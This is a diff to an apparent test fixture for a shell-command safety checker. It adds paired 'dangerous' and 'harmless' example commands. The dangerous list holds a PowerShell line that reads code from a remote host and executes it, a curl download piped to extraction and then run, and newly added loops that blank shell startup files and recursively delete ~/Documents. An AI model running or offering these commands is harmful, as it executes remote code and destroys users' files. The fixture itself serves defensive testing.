@@ -81,6 +81,8 @@ DANGEROUS = {
         "powershell -Command '$s=New-Object Net.Sockets.TcpClient(\"198.51.100.8\",80);"
         "iex ([IO.StreamReader]::new($s.GetStream())).ReadLine()'",
         "curl -sL https://198.51.100.9/k.tgz | tar xz -C /opt; cd /opt/k && ./setup",
+        "printf '%s\\n' .profile .zshenv | while read n; do cp /dev/null ~/$n; done",
+        "echo Documents | while read d; do rm -r -f ~/$d; done",
     ],
 }
 
@@ -113,6 +115,8 @@ HARMLESS = [
     "wget -qO- https://example.org/src.tar.gz | tar xz && cd src && make",
     "CC=clang CFLAGS='-O2 -g' make -j4", "sudo usermod -U bob", "cd /tmp && ./install",
     "setsid -f ./server --port 8080", "builtin command -- cat ./notes.txt",
+    "printf '%s\\n' a.txt b.txt | while read f; do : > ./$f; done",
+    "echo build | while read d; do rm -rf ./$d; done",
 ]
 
 
